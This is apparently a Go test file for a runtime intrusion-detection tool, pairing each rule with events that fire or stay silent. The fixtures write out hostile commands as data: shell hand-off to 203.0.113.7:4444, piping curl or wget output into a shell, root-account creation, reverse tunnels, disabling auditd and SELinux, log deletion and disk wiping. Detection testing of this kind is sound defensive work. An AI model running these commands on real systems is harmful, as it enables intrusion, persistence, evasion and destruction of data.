package policies_test

import "github.com/sightglass/sightglass/internal/schema"

// duplicate is a copy of a descriptor of a TCP connection.
func duplicate(to int64, facts ...fact) activity {
	a := connect("203.0.113.7:4444", append([]fact{attr("syscall.name", "dup2"), attr("syscall.return_value", to)}, facts...)...)
	a.event = "sightglass.syscall"
	return a
}

var serverScenarios = []scenario{
	{
		rule: "Input and output handed to a connection",
		fires: []activity{
			duplicate(0, by("python3"), in("web")),
			duplicate(2, by("sh"), in("web")),
		},
		silent: []activity{
			duplicate(7, by("python3"), in("web")),
			duplicate(0, by("python3")),
			duplicate(0, by("xinetd"), in("web")),
		},
	},
	{
		rule: "Terminal made by a script",
		fires: []activity{
			execArgs("python3", []string{"-c", "import pty; pty.spawn('/bin/bash')"}, below("sh", "nginx"), in("web")),
			execArgs("perl", []string{"-e", "use Socket; exec('/bin/sh -i')"}, below("sh")),
			exec("script -qc /bin/bash /dev/null", below("sh"), in("web")),
		},
		silent: []activity{
			execArgs("python3", []string{"-c", "print(1)"}),
			exec("python3 app.py"),
			exec("script -qc make /dev/null", tty(pts0)),
			execArgs("perl", []string{"-e", "print 1"}),
		},
	},
	{
		rule: "Download by a network service",
		fires: []activity{
			exec("curl -s http://203.0.113.7/x", below("sh", "nginx"), in("web")),
			exec("wget http://203.0.113.7/x", below("postgres")),
		},
		silent: []activity{
			exec("curl -s http://203.0.113.7/x", below("bash", "sshd")),
			exec("curl localhost", below("bash", "sshd", "nginx")),
			exec("nginx -t", below("nginx")),
		},
	},
	{
		rule: "Login at a terminal",
		fires: []activity{
			exec("-bash", named("bash"), file("/usr/bin/bash"), below("login"), login(someone), tty(1025)),
		},
		silent: []activity{
			exec("login -- ada", below("agetty"), tty(1025)),
			exec("bash", below("bash", "login"), login(someone), tty(1025)),
			exec("zsh", below("login"), login(someone), tty(1025), attr(schema.ProcessReplaced, "bash")),
			exec("bash", below("login")),
		},
	},
	{
		rule: "Service account at a terminal",
		fires: []activity{
			exec("bash -i", user(33, "www-data"), tty(pts0), below("python3", "nginx")),
		},
		silent: []activity{
			exec("bash", user(33, "www-data"), tty(pts0), below("su", "bash", "sshd")),
			exec("bash", user(33, "www-data"), below("cron")),
			exec("bash", user(someone, "ada"), tty(pts0), below("sshd")),
			exec("psql", user(70, "postgres"), tty(pts0), below("bash")),
		},
	},
	{
		rule: "Account added or changed",
		fires: []activity{
			exec("useradd -o -u 0 x", below("bash"), login(someone)),
			exec("usermod -aG sudo x", below("sh")),
		},
		silent: []activity{
			exec("useradd -r x", below("x.postinst", "dpkg")),
			exec("groupadd x", below("useradd")),
			exec("useradd x", in("web")),
			exec("id x"),
		},
	},
	{
		rule: "Capabilities given to a program",
		fires: []activity{
			exec("setcap cap_setuid+ep /srv/x"),
		},
		silent: []activity{
			exec("setcap -r /srv/x"),
			exec("setcap cap_net_raw+ep /usr/bin/ping", below("x.postinst", "dpkg")),
			exec("getcap /srv/x"),
		},
	},
	{
		rule: "Attack on pkexec or sudoedit",
		fires: []activity{
			exec("pkexec", user(root, "root"), login(someone)),
			exec("sudoedit -s \\", login(someone)),
		},
		silent: []activity{
			exec("pkexec id", login(someone)),
			exec("sudoedit /etc/hosts", login(someone)),
			exec("sudo -s", login(someone)),
		},
	},
	{
		rule: "Metadata service contacted from a container",
		fires: []activity{
			connect("169.254.169.254:80", by("curl"), in("web")),
			connect("[fd00:ec2::254]:80", by("app"), pod("shop")),
		},
		silent: []activity{
			connect("169.254.169.254:80", by("curl")),
			connect("169.254.169.254:80", by("aws-node"), pod("kube-system")),
			connect("169.254.169.254:80", by("fluent-bit"), pod("logs")),
			connect("169.254.1.1:80", by("curl"), in("web")),
		},
	},
	{
		rule: "SSH to an unusual port",
		fires: []activity{
			connect("203.0.113.7:443", by("ssh -p 443 x"), in("web")),
		},
		silent: []activity{
			connect("203.0.113.7:22", by("ssh x")),
			connect("127.0.0.1:443", by("ssh -p 443 localhost")),
			connect("203.0.113.7:443", by("curl")),
		},
	},
	{
		rule: "Tunnel to the outside",
		fires: []activity{
			exec("frpc -c x"),
			exec("ssh -fNR 8080:localhost:22 x"),
		},
		silent: []activity{
			exec("ssh -L 8080:localhost:80 x"),
			exec("ssh x"),
		},
	},
	{
		rule: "Network scanner",
		fires: []activity{
			exec("nmap -sn 10.0.0.0/24", in("web")),
			exec("nc -zv 10.0.0.1 1-1000"),
		},
		silent: []activity{
			exec("nc -z db 5432"),
			exec("ping db"),
		},
	},
	{
		rule: "Container listens to the network itself",
		fires: []activity{
			other("socket", arg("domain", int64(17)), arg("type", int64(3)), arg("protocol", int64(0)), by("tcpdump"), in("web")),
		},
		silent: []activity{
			other("socket", arg("domain", int64(17)), arg("type", int64(3)), arg("protocol", int64(0)), by("tcpdump")),
			other("socket", arg("domain", int64(2)), arg("type", int64(1)), arg("protocol", int64(0)), by("curl"), in("web")),
			other("socket", arg("domain", int64(17)), arg("type", int64(3)), arg("protocol", int64(0)), by("keepalived"), in("vip")),
			other("socket", arg("domain", int64(17)), arg("type", int64(3)), arg("protocol", int64(0)), by("tcpdump"), in("web"), failed(1)),
		},
	},
	{
		rule: "Remote copy from a container",
		fires: []activity{
			exec("scp x y:", in("web")),
		},
		silent: []activity{
			exec("scp x y:"),
			exec("cp x y", in("web")),
		},
	},
	{
		rule: "Package manager run in a container",
		fires: []activity{
			exec("apt-get install nmap", below("sh"), in("web")),
			exec("apk add curl", below("sh"), in("web")),
		},
		silent: []activity{
			exec("apt-get install nmap"),
			exec("apt-get --version", in("web")),
			exec("apt-get install x", below("sh", "runc", "buildkitd"), in("build")),
			exec("dpkg -i x", below("apt-get"), in("web")),
		},
	},
	{
		rule: "Program made executable in a container",
		fires: []activity{
			chmod("/tmp/x", 0o755, by("chmod +x /tmp/x"), in("web")),
		},
		silent: []activity{
			chmod("/tmp/x", 0o755, by("chmod +x /tmp/x")),
			chmod("/tmp/x", 0o644, by("chmod 644 /tmp/x"), in("web")),
			chmod("/srv/x", 0o755, by("chmod"), in("web")),
		},
	},
}

var integrityScenarios = []scenario{
	{
		rule: "Kernel module loaded by hand",
		fires: []activity{
			other("finit_module", by("/srv/loader")),
			other("init_module", by("/tmp/insmod x.ko")),
		},
		silent: []activity{
			other("finit_module", by("modprobe loop")),
			other("finit_module", by("/srv/loader"), failed(1)),
			other("finit_module", by("depmod"), below("x.postinst", "dpkg")),
		},
	},
	{
		rule: "Memory of another process written",
		fires: []activity{
			call("sightglass.syscall", "process_vm_writev", 8, arg("pid", int64(77)), by("/srv/injector")),
			open("/proc/77/mem", wronly, by("python3"), in("web")),
		},
		silent: []activity{
			call("sightglass.syscall", "process_vm_writev", 8, arg("pid", int64(77)), by("gdb")),
			call("sightglass.syscall", "process_vm_writev", 8, arg("pid", int64(77)), by("/srv/injector"), failed(1)),
			open("/proc/77/mem", rdonly, by("python3"), in("web")),
			open("/proc/self/mem", wronly, by("python3")),
		},
	},
	{
		rule: "Page faults handled by an ordinary user",
		fires: []activity{
			call("sightglass.syscall", "userfaultfd", 3, user(someone, "ada"), by("/srv/exploit")),
		},
		silent: []activity{
			call("sightglass.syscall", "userfaultfd", 3, by("/srv/tool")),
			call("sightglass.syscall", "userfaultfd", 3, user(someone, "ada"), by("qemu-system-x86_64")),
			call("sightglass.syscall", "userfaultfd", 3, user(someone, "ada"), by("/srv/exploit"), failed(1)),
		},
	},
	{
		rule: "Service added or changed",
		fires: []activity{
			open("/etc/systemd/system/x.service", wronly|creat, by("vi")),
			symlink("/srv/x", "/etc/systemd/system/multi-user.target.wants/x.service", by("ln")),
			rename("/srv/x", "/etc/init.d/x", by("mv")),
		},
		silent: []activity{
			open("/etc/systemd/system/x.service", wronly|creat, by("/usr/lib/systemd/systemd")),
			symlink("/lib/systemd/system/x.service", "/etc/systemd/system/multi-user.target.wants/x.service", by("systemctl enable x")),
			open("/lib/systemd/system/x.service.dpkg-new", wronly|creat, by("dpkg"), below("apt-get")),
			open("/etc/systemd/system/x.service", rdonly, by("cat")),
		},
	},
	{
		rule: "Profile of a shell changed",
		fires: []activity{
			open("/root/.bashrc", wronly, by("bash")),
			open("/home/ada/.profile", wronly, by("tee"), through("/srv/x")),
			open("/etc/profile.d/x.sh", wronly|creat, by("cp")),
			rename("/home/ada/x", "/home/ada/.zshrc", by("mv")),
		},
		silent: []activity{
			open("/home/ada/.profile", wronly|creat, by("useradd -m ada")),
			open("/root/.bashrc", rdonly, by("bash")),
			open("/srv/.bashrc", wronly, by("vi")),
		},
	},
	{
		rule: "Rules of logging in changed",
		fires: []activity{
			open("/etc/passwd", wronly, by("vi")),
			open("/etc/pam.d/sshd", wronly, by("tee"), through("/srv/x")),
			rename("/etc/sudoers.new", "/etc/sudoers", by("mv")),
			chmod("/etc/shadow", 0o644, by("chmod")),
		},
		silent: []activity{
			open("/etc/passwd+", wronly|creat, by("useradd x")),
			rename("/etc/passwd+", "/etc/passwd", by("useradd x")),
			rename("/etc/sudoers.tmp", "/etc/sudoers", by("visudo")),
			open("/etc/passwd", rdonly, by("id")),
			open("/etc/pam.d/sshd.dpkg-new", wronly|creat, by("dpkg"), below("apt-get")),
		},
	},
	{
		rule: "Download piped into a shell",
		fires: []activity{
			exec("sh", attr(schema.ProcessStdinFrom, "curl"), below("bash")),
			exec("bash -s -- -y", attr(schema.ProcessStdinFrom, "wget"), in("web")),
			exec("python3 -", attr(schema.ProcessStdinFrom, "curl")),
			exec("curl -sSL https://get.example.org", attr(schema.ProcessStdoutTo, "sh")),
			exec("gunzip", attr(schema.ProcessStdinFrom, "curl"), attr(schema.ProcessStdoutTo, "bash")),
			exec("wget -qO- http://192.0.2.9", attr(schema.ProcessStdoutTo, "python3"), attr(schema.ProcessScriptTo, "python3")),
			exec("gunzip", attr(schema.ProcessStdinFrom, "curl"), attr(schema.ProcessScriptTo, "perl")),
			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"curl"}), below("bash")),
			exec("python3 -c print()", attr(schema.ProcessScriptFrom, []any{"wget"}), in("web")),
			execArgs("sh", []string{"-c", `cd /srv; eval "$(curl -s http://192.0.2.9)"`}),
			execArgs("bash", []string{"-c", "source <(curl -s http://192.0.2.9)"}, in("web")),
			execArgs("sh", []string{"-c", ". <(wget -qO- http://192.0.2.9)"}),
		},
		silent: []activity{
			exec("sh", attr(schema.ProcessStdinFrom, "cat")),
			exec("sh -c cat>x", attr(schema.ProcessStdinFrom, "curl")),
			exec("python3 -m json.tool", attr(schema.ProcessStdinFrom, "curl")),
			exec("curl https://example.org", attr(schema.ProcessStdoutTo, "jq")),
			exec("curl https://example.org", attr(schema.ProcessStdoutTo, "python3")),
			exec("curl https://example.org", attr(schema.ProcessStdoutTo, "diff"), attr(schema.ProcessScriptTo, "diff")),
			exec("gunzip", attr(schema.ProcessStdinFrom, "curl"), attr(schema.ProcessStdoutTo, "tar")),
			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"cat"})),
			exec("diff /dev/fd/63 /dev/fd/62", attr(schema.ProcessScriptFrom, []any{"curl"})),
			exec("bash"),
			exec("sh -c /usr/sbin/dpkg-preconfigure", attr(schema.ProcessScriptFrom, []any{"http"}), below("apt-get", "bash")),
			execArgs("sh", []string{"-c", `v="$(curl -s http://192.0.2.9)"; eval "$(ssh-agent)"`}),
		},
	},
	{
		rule: "Encoded text run by a shell",
		fires: []activity{
			exec("sh", attr(schema.ProcessStdinFrom, "base64"), below("bash")),
			exec("bash", attr(schema.ProcessStdinFrom, "openssl"), in("web")),
			exec("python3 -", attr(schema.ProcessStdinFrom, "xxd")),
			exec("base64 -d", attr(schema.ProcessStdoutTo, "sh")),
			exec("base64 -d", attr(schema.ProcessScriptTo, "python3")),
			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"base64"})),
		},
		silent: []activity{
			exec("base64 -d", attr(schema.ProcessStdoutTo, "tar")),
			exec("base64 x", attr(schema.ProcessStdoutTo, "sh")),
			exec("base64 x", attr(schema.ProcessScriptTo, "python3")),
			exec("sh -c cat>x", attr(schema.ProcessStdinFrom, "base64")),
			exec("python3 -m json.tool", attr(schema.ProcessStdinFrom, "base64")),
			exec("sh", attr(schema.ProcessStdinFrom, "cat")),
		},
	},
	{
		rule: "Critical file changed",
		fires: []activity{
			modified("/etc/passwd", by("vi")),
			modified("/etc/sudoers.d/x", by("cp"), below("bash", "sshd")),
			modified("/root/.ssh/authorized_keys", nobody()),
		},
		silent: []activity{
			modified("/etc/passwd", by("useradd x")),
			modified("/etc/pam.d/sshd", by("dpkg"), below("apt-get")),
			modified("/home/ada/.ssh/known_hosts", by("ssh")),
			open("/etc/passwd", rdonly, by("id")),
		},
	},
	{
		rule: "Shared library changed",
		fires: []activity{
			open("/usr/lib/x86_64-linux-gnu/libc.so.6", wronly, by("cp")),
			rename("/srv/x", "/lib/libpam.so.0", by("mv")),
		},
		silent: []activity{
			open("/usr/lib/x86_64-linux-gnu/libc.so.6", rdonly, by("ls")),
			open("/usr/lib/x86_64-linux-gnu/libx.so.1.dpkg-new", wronly|creat, by("dpkg"), below("apt-get")),
			open("/usr/lib/python3/__pycache__/x.pyc", wronly|creat, by("python3")),
			symlink("libx.so.1.2", "/lib/libx.so.1", by("/usr/sbin/ldconfig")),
		},
	},
	{
		rule: "Boot files changed",
		fires: []activity{
			open("/boot/grub/grub.cfg", wronly, by("vi")),
			rename("/srv/x.ko", "/lib/modules/6.1.0/x.ko", by("mv")),
			unlink("/boot/vmlinuz", by("rm")),
		},
		silent: []activity{
			open("/boot/initrd.img.new", wronly|creat, by("mkinitramfs"), below("update-initramf", "dpkg")),
			open("/lib/modules/6.1.0/modules.dep", wronly|creat, by("depmod")),
			open("/boot/grub/grub.cfg", rdonly, by("cat")),
		},
	},
	{
		rule: "System log deleted",
		fires: []activity{
			open("/var/log/auth.log", wronly|trunc, by("bash")),
			unlink("/var/log/wtmp", by("rm")),
			rename("/var/log/syslog", "/srv/x", by("mv")),
		},
		silent: []activity{
			rename("/var/log/syslog", "/var/log/syslog.1", by("logrotate")),
			open("/var/log/auth.log", wronly, by("rsyslogd")),
			open("/var/log/app.log", wronly|trunc, by("app")),
			unlink("/var/log/syslog.7.gz", by("/usr/sbin/logrotate")),
		},
	},
	{
		rule: "Protection switched off",
		fires: []activity{
			exec("setenforce 0"),
			exec("systemctl stop auditd"),
			exec("auditctl -e 0"),
			exec("iptables -F"),
		},
		silent: []activity{
			exec("systemctl status auditd"),
			exec("systemctl stop nginx"),
			exec("systemctl stop auditd", below("auditd.prerm", "dpkg")),
			exec("iptables -L"),
			exec("setenforce 1"),
		},
	},
	{
		rule: "Data wiped",
		fires: []activity{
			exec("shred -u x"),
			exec("dd if=/dev/zero of=/dev/sda"),
		},
		silent: []activity{
			exec("dd if=/dev/zero of=/srv/x"),
			exec("rm -rf /srv/x"),
		},
	},
}
